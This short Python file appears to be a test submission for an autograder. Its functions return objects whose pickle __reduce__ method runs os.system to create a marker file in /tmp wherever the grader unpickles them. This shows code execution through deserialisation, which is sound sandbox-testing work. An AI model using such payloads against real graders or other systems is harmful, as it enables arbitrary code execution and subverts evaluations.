# ruff: noqa
# %% A pickle that writes a file where the grader is.
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/bpkit_grader_was_here",)


def double(X):
    return Payload()


def center(X):
    return pickle.dumps(Payload())


def squared_distances(X, p):
    import numpy as np

    return np.array([Payload()], dtype=object)
